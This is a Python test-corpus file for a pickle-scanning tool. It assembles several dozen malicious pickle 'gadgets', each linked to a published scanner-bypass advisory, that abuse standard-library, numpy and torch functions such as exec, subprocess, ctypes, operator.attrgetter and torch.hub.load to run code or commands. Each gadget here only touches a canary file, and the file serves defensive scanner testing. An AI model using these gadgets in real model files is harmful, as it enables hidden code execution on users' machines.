"""Functions of the standard library and of torch, numpy and others through which a pickle runs what it likes.

Most were missing in a scanner's list of forbidden names once; the link says where that was published.
"""

from __future__ import annotations

import marshal
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

from sau_scan.findings import Severity
from tests.corpus.opcodes import Call, Name, assemble, calling, evil, given
from tests.corpus.sample import Sample, code, command, writes

PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories/"
FICKLING = "https://github.com/trailofbits/fickling/security/advisories/"
MODELSCAN_338 = "https://github.com/protectai/modelscan/issues/338"


def _touch(canary: Path) -> list[str]:
    return ["touch", str(canary)]


def _literal(canary: Path) -> str:
    return '""+' + f"str({code(canary)})"


def _sh(canary: Path) -> tuple[bytes, bytes, bytes]:
    return (b"/bin/sh", b"-c", command(canary).encode())


def _marshalled(canary: Path) -> bytes:
    return marshal.dumps(compile(code(canary), "x", "exec"))


def _mailcap(canary: Path) -> dict[str, Any]:
    return {"text/plain": [{"view": "cat %s", "test": command(canary)}]}


def _method(module: str, name: str, *args: Any) -> Callable[[Path], bytes]:
    """A method ``Class.method`` called on an instance made without arguments."""
    owner = name.rpartition(".")[0]
    return lambda canary: assemble(Call(Name(module, name), (Call(Name(module, owner), ()), *given(args, canary))))


def _attribute_of(module: str, getter: str) -> Callable[[Path], bytes]:
    """``attrgetter("system")(__import__("os"))(command)``."""
    return lambda canary: assemble(
        Call(
            Call(Call(Name(module, getter), ("system",)), (Call(Name("builtins", "__import__"), ("os",)),)),
            (command(canary),),
        )
    )


def _imported(canary: Path) -> bytes:
    module = Call(Name("importlib", "import_module"), ("os",))
    return assemble(Call(Call(Name("builtins", "getattr"), (module, "system")), (command(canary),)))


def _resolved(module: str, name: str, target: str) -> Callable[[Path], bytes]:
    return lambda canary: assemble(Call(Call(Name(module, name), (target,)), (command(canary),)))


def _partial(canary: Path) -> bytes:
    return assemble(Call(Call(Name("functools", "partial"), (Name("posix", "system"), command(canary))), ()))


def _method_caller(canary: Path) -> bytes:
    caller = Call(Name("operator", "methodcaller"), ("system", command(canary)))
    return assemble(Call(caller, (Call(Name("builtins", "__import__"), ("os",)),)))


def _c_library(canary: Path) -> bytes:
    library = Call(Name("ctypes", "CDLL"), (None,))
    return assemble(Call(Call(Name("builtins", "getattr"), (library, "system")), (command(canary).encode(),)))


def _code_object(canary: Path) -> bytes:
    body = Call(Name("marshal", "loads"), (_marshalled(canary),))
    empty = {"__builtins__": Call(Name("builtins", "__import__"), ("builtins",))}
    return assemble(Call(Call(Name("types", "FunctionType"), (body, empty)), ()))


def _debugger(canary: Path) -> bytes:
    reads, writes_ = (Call(Name("_io", "StringIO"), (text,)) for text in ("c\n", ""))
    return assemble(Call(Name("pdb", "Pdb.run"), (Call(Name("pdb", "Pdb"), ("tab", reads, writes_)), code(canary))))


def _browser(canary: Path) -> bytes:
    browser = Call(Name("webbrowser", "BackgroundBrowser"), ("touch",))
    return assemble(Call(Name("webbrowser", "BackgroundBrowser.open"), (browser, str(canary))))


def _tracer(name: str) -> Callable[[Path], bytes]:
    def data(canary: Path) -> bytes:
        tracer = Call(Name("trace", "Trace"), (0, 0))
        spaces = ({}, {}) if name.endswith("ctx") else ()
        return assemble(Call(Name("trace", name), (tracer, code(canary), *spaces)))

    return data


def _label(canary: Path) -> bytes:
    grammar = Call(Name("lib2to3.pgen2.grammar", "Grammar"), ())
    return assemble(Call(Name("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), (None, grammar, _literal(canary))))


def _interpreter(canary: Path) -> bytes:
    number = Call(Name("_xxsubinterpreters", "create"), ())
    return assemble(Call(Name("_xxsubinterpreters", "run_string"), (number, code(canary))))


def _path_touch(canary: Path) -> bytes:
    return assemble(Call(Name("pathlib", "Path.touch"), (Call(Name("pathlib", "Path"), (str(canary),)),)))


def _compressed(canary: Path) -> bytes:
    source = Call(Name("zlib", "decompress"), (zlib.compress(code(canary).encode()),))
    return assemble(Call(Name("builtins", "exec"), (source,)))


def _cloudpickle(canary: Path) -> bytes:
    import cloudpickle

    where = str(canary)

    class Hostile:
        def __reduce__(self) -> tuple[Any, ...]:
            return (lambda: open(where, "w").close(), ())  # noqa: PTH123

    return bytes(cloudpickle.dumps(Hostile()))


# id, what is called, its pickle, where its passing was published (GHSA alone: an advisory of picklescan)
_GADGETS: tuple[tuple[str, str, Callable[[Path], bytes], str], ...] = (
    ("exec", "builtins.exec", calling("builtins", "exec", code), ""),
    ("compile-exec", "builtins.exec of decompressed text", _compressed, MODELSCAN_338),
    ("subprocess", "subprocess.check_output", calling("subprocess", "check_output", _touch), ""),
    ("os-popen", "os.popen", calling("os", "popen", command), ""),
    ("posix-spawn", "os.spawnvp", calling("os", "spawnvp", 0, "touch", _touch), ""),
    ("runpy", "runpy._run_code", calling("runpy", "_run_code", code, {}), "GHSA-655q-fx9r-782v"),
    ("pip-main", "pip.main", calling("pip", "main", lambda canary: ["list", "--log", str(canary)]), "GHSA-655q-fx9r-782v"),
    ("pip-internal", "pip._internal.main", calling("pip._internal", "main", lambda c: ["list", "--log", str(c)]), ""),
    ("bdb", "bdb.Bdb.run", _method("bdb", "Bdb.run", code), ""),
    ("pdb", "pdb.Pdb.run", _debugger, ""),
    ("asyncio", "asyncio's subprocess transport", calling("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, command, True, None, None, None, 0), "GHSA-q77w-mwjj-7mqx"),
    ("ctypes", "system of the C library through ctypes", _c_library, ""),
    ("distutils", "distutils.file_util.write_file", calling("distutils.file_util", "write_file", str, ["x"]), "GHSA-m273-6v24-x4m4"),
    ("cprofile-run", "cProfile.run", calling("cProfile", "run", code), "GHSA-49gj-c84q-6qm9"),
    ("cprofile-runctx", "cProfile.runctx", calling("cProfile", "runctx", code, {}, {}), "GHSA-9w88-8rmg-7g2p"),
    ("profile-run", "profile.Profile.run", _method("profile", "Profile.run", code), "GHSA-x696-vm39-cp64"),
    ("profile-runctx", "profile.Profile.runctx", _method("profile", "Profile.runctx", code, {}, {}), "GHSA-6vqj-c2q5-j97w"),
    ("timeit", "timeit.timeit", calling("timeit", "timeit", "", code), "GHSA-v7x6-rv5q-mhwc"),
    ("trace-run", "trace.Trace.run", _tracer("Trace.run"), "GHSA-5qwp-399c-mjwf"),
    ("trace-runctx", "trace.Trace.runctx", _tracer("Trace.runctx"), "GHSA-g344-hcph-8vgg"),
    ("doctest", "doctest.debug_script", calling("doctest", "debug_script", code, True), "GHSA-fqq6-7vqf-w3fg"),
    ("code", "code.InteractiveInterpreter.runcode", _method("code", "InteractiveInterpreter.runcode", code), "GHSA-cj3c-v495-4xqh"),
    ("idlelib-entity", "idlelib.calltip.get_entity", calling("idlelib.calltip", "get_entity", code), "GHSA-9xph-j2h6-g47v"),
    ("idlelib-complete", "idlelib.autocomplete.AutoComplete.get_entity", calling("idlelib.autocomplete", "AutoComplete.get_entity", {}, code), "GHSA-6w4w-5w54-rjvr"),
    ("lib2to3-loads", "lib2to3.pgen2.grammar.Grammar.loads", _method("lib2to3.pgen2.grammar", "Grammar.loads", evil), "GHSA-f54q-57x4-jg88"),
    ("lib2to3-label", "lib2to3's make_label", _label, "GHSA-p9w7-82w4-7q8m"),
    ("attrgetter", "operator.attrgetter", _attribute_of("operator", "attrgetter"), "GHSA-m273-6v24-x4m4"),
    ("c-attrgetter", "_operator.attrgetter", _attribute_of("_operator", "attrgetter"), "GHSA-955r-x9j8-7rhh"),
    ("methodcaller", "operator.methodcaller", _method_caller, "GHSA-955r-x9j8-7rhh"),
    ("partial", "functools.partial", _partial, ""),
    ("resolve-name", "pkgutil.resolve_name", _resolved("pkgutil", "resolve_name", "os:system"), "GHSA-vvpj-8cmc-gx39"),
    ("pydoc-locate", "pydoc.locate", _resolved("pydoc", "locate", "os.system"), "GHSA-655q-fx9r-782v"),
    ("pydoc-pager", "pydoc.pipepager", calling("pydoc", "pipepager", "", command), "GHSA-655q-fx9r-782v"),
    ("importlib", "importlib.import_module", _imported, "https://github.com/mmaitre314/picklescan/issues/66"),
    ("marshal", "marshal.loads and types.FunctionType", _code_object, FICKLING + "GHSA-565g-hwwr-4pp3"),
    ("pty", "pty.spawn", calling("pty", "spawn", _touch), FICKLING + "GHSA-r7v6-mfhq-g3m2"),
    ("subinterpreter", "_xxsubinterpreters.run_string", _interpreter, FICKLING + "GHSA-6ggj-6f2q-f7mx"),
    ("spawnv-passfds", "multiprocessing.util.spawnv_passfds", calling("multiprocessing.util", "spawnv_passfds", b"/bin/sh", _sh, ()), MODELSCAN_338),
    ("mailcap", "mailcap.findmatch", calling("mailcap", "findmatch", _mailcap, "text/plain"), "https://github.com/protectai/modelscan/pull/346"),
    ("uuid", "uuid._get_command_stdout", calling("uuid", "_get_command_stdout", "touch", str), "GHSA-g38g-8gr9-h9xp"),
    ("imaplib", "imaplib.IMAP4_stream", calling("imaplib", "IMAP4_stream", command), "GHSA-g38g-8gr9-h9xp"),
    ("osx-support", "_osx_support._read_output", calling("_osx_support", "_read_output", command), "GHSA-g38g-8gr9-h9xp"),
    ("script-helper", "test.support.script_helper.assert_python_ok", calling("test.support.script_helper", "assert_python_ok", "-c", code), "GHSA-g38g-8gr9-h9xp"),
    ("venv", "venv.create", calling("venv", "create", str), "GHSA-655q-fx9r-782v"),
    ("webbrowser", "webbrowser.BackgroundBrowser.open", _browser, ""),
    ("file-handler", "logging.FileHandler", calling("logging", "FileHandler", str), "https://aithreatalert.com/cve/CVE-2026-56304"),
    ("file-io", "io.FileIO", calling("_io", "FileIO", str, "w"), "https://github.com/trailofbits/fickling/pull/210"),
    ("path-touch", "pathlib.Path.touch", _path_touch, ""),
    ("codecs-open", "codecs.open", calling("codecs", "open", str, "w"), ""),
    ("sqlite", "sqlite3.connect", calling("sqlite3", "connect", str), FICKLING + "GHSA-mhc9-48gj-9gp3"),
    ("zipfile", "zipfile.ZipFile", calling("zipfile", "ZipFile", str, "w"), FICKLING + "GHSA-mhc9-48gj-9gp3"),
    ("shutil", "shutil.copyfile", calling("shutil", "copyfile", "/etc/hostname", str), ""),
    ("urlretrieve", "urllib.request.urlretrieve", calling("urllib.request", "urlretrieve", "file:///etc/hostname", str), MODELSCAN_338),
    ("cloudpickle", "a function by value, through cloudpickle", _cloudpickle, MODELSCAN_338),
    ("f2py", "numpy.f2py.crackfortran.getlincoef", calling("numpy.f2py.crackfortran", "getlincoef", code, {}), "https://github.com/trailofbits/fickling/pull/210"),
    ("runstring", "numpy.testing._private.utils.runstring", calling("numpy.testing._private.utils", "runstring", code, {}), "GHSA-fj43-3qmq-673f"),
    ("collect-env", "torch.utils.collect_env.run", calling("torch.utils.collect_env", "run", command), "GHSA-f745-w6jp-hpxx"),
    ("collect-env-all", "torch.utils.collect_env.run_and_read_all", calling("torch.utils.collect_env", "run_and_read_all", Name("torch.utils.collect_env", "run"), command), "GHSA-jhph-76pp-mggw"),
    ("shape-env", "torch's ShapeEnv.evaluate_guards_expression", calling("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", {}, code, []), "GHSA-f4x7-rfwp-v3xw"),
    ("exec-wrapper", "torch.jit.unsupported_tensor_ops.execWrapper", calling("torch.jit.unsupported_tensor_ops", "execWrapper", code, {}, {}), "GHSA-vr7h-p6mm-wpmh"),
    ("config-module", "torch.utils._config_module.ConfigModule.load_config", calling("torch.utils._config_module", "ConfigModule.load_config", {}, evil), "GHSA-vv6j-3g6g-2pvj"),
    ("basichandlers", "torch.utils.data.datapipes.utils.decoder.basichandlers", calling("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", evil), "GHSA-h3qp-7fh3-f8h4"),
    ("load-from-bytes", "torch.storage._load_from_bytes", calling("torch.storage", "_load_from_bytes", evil), ""),
    ("pickle-loads", "a pickle in a pickle", calling("pickle", "loads", evil), "GHSA-84r2-jw7c-4r5q"),
    ("c-pickle-loads", "a pickle in a pickle, by the C module", calling("_pickle", "loads", evil), "https://github.com/protectai/modelscan/issues/267"),
)  # fmt: skip

# Called here in vain: they need a newer or older Python, another system or another torch.
_ELSEWHERE: tuple[tuple[str, str, Callable[[Path], bytes], str], ...] = (
    ("nt-system", "nt.system (Windows)", calling("nt", "system", command), ""),
    ("commands", "commands.getoutput (Python 2)", calling("commands", "getoutput", command), ""),
    ("pyrepl", "_pyrepl.pager.pipe_pager (Python 3.13)", calling("_pyrepl.pager", "pipe_pager", "", command), "GHSA-g38g-8gr9-h9xp"),
    ("aix-support", "_aix_support._read_cmd_output", calling("_aix_support", "_read_cmd_output", command), "GHSA-g38g-8gr9-h9xp"),
    ("ensurepip", "ensurepip._run_pip (fetches a package)", calling("ensurepip", "_run_pip", ["install", "x"]), "GHSA-xp4f-hrf8-rxw7"),
    ("idlelib-tree", "idlelib.debugobj.ObjectTreeItem.SetText", calling("idlelib.debugobj", "ObjectTreeItem.SetText", {}, code), "GHSA-3vg9-h568-4w9m"),
    ("idlelib-completions", "idlelib.autocomplete's fetch_completions", calling("idlelib.autocomplete", "AutoComplete.fetch_completions", {}, code, 1), "GHSA-7cq8-mj8x-j263"),
    ("idlelib-tip", "idlelib.calltip.Calltip.fetch_tip", calling("idlelib.calltip", "Calltip.fetch_tip", {}, code), "GHSA-8r4j-24qv-fmq9"),
    ("idlelib-runcode", "idlelib.run.Executive.runcode", calling("idlelib.run", "Executive.runcode", {}, code), "GHSA-m869-42cg-3xwr"),
    ("idlelib-command", "idlelib.pyshell's runcommand", calling("idlelib.pyshell", "ModifiedInterpreter.runcommand", {}, code), "GHSA-j343-8v2j-ff7w"),
    ("idlelib-shell", "idlelib.pyshell's runcode", calling("idlelib.pyshell", "ModifiedInterpreter.runcode", {}, code), "GHSA-3gf5-cxq9-w223"),
    ("bottleneck", "torch.utils.bottleneck's run_cprofile", calling("torch.utils.bottleneck.__main__", "run_cprofile", code, {}), "GHSA-4r9r-ch6f-vxmx"),
    ("bottleneck-autograd", "torch.utils.bottleneck's run_autograd_prof", calling("torch.utils.bottleneck.__main__", "run_autograd_prof", code, {}), "GHSA-4whj-rm5r-c2v8"),
    ("guards", "torch._dynamo.guards.GuardBuilder.get", calling("torch._dynamo.guards", "GuardBuilder.get", {}, code), "GHSA-86cj-95qr-2p4f"),
    ("codecache", "torch._inductor.codecache.compile_file", calling("torch._inductor.codecache", "compile_file", "", "", _touch), "GHSA-655q-fx9r-782v"),
    ("ssl", "ssl.get_server_certificate (tells a name server)", calling("ssl", "get_server_certificate", ("x.invalid", 443)), "GHSA-9m3x-qqw2-h32h"),
    ("https", "http.client.HTTPSConnection (opens a connection)", calling("http.client", "HTTPSConnection", "x.invalid"), ""),
    ("requests", "requests.api.get (fetches)", calling("requests.api", "get", "http://x.invalid"), ""),
    ("aiohttp", "aiohttp.client.ClientSession", calling("aiohttp.client", "ClientSession"), "GHSA-hgrh-qx5j-jfwx"),
    ("socket", "socket.create_connection", calling("socket", "create_connection", ("x.invalid", 80)), ""),
    ("read-csv", "pandas.read_csv of an address (fetches)", calling("pandas.io.parsers.readers", "read_csv", "http://x.invalid"), MODELSCAN_338),
    ("mlflow", "mlflow's _run_entry_point", calling("mlflow.projects.backend.local", "_run_entry_point", command, ".", "", ""), MODELSCAN_338),
    ("hub-load", "torch.hub.load (fetches code and runs it)", calling("torch.hub", "load", "evil/repository", "model"), "https://github.com/trailofbits/fickling/pull/215"),
    ("exit", "sys.exit", calling("sys", "exit", 0), ""),
)  # fmt: skip


def _address(link: str) -> str:
    return PICKLESCAN + link if link.startswith("GHSA-") else link


GADGETS = tuple(
    Sample(f"gadget-{name}", "model.pkl", what, writes(data), Severity.HIGH, _address(link), load="pickle")
    for name, what, data, link in _GADGETS
) + tuple(
    Sample(f"gadget-{name}", "model.pkl", what, writes(data), Severity.HIGH, _address(link))
    for name, what, data, link in _ELSEWHERE
)
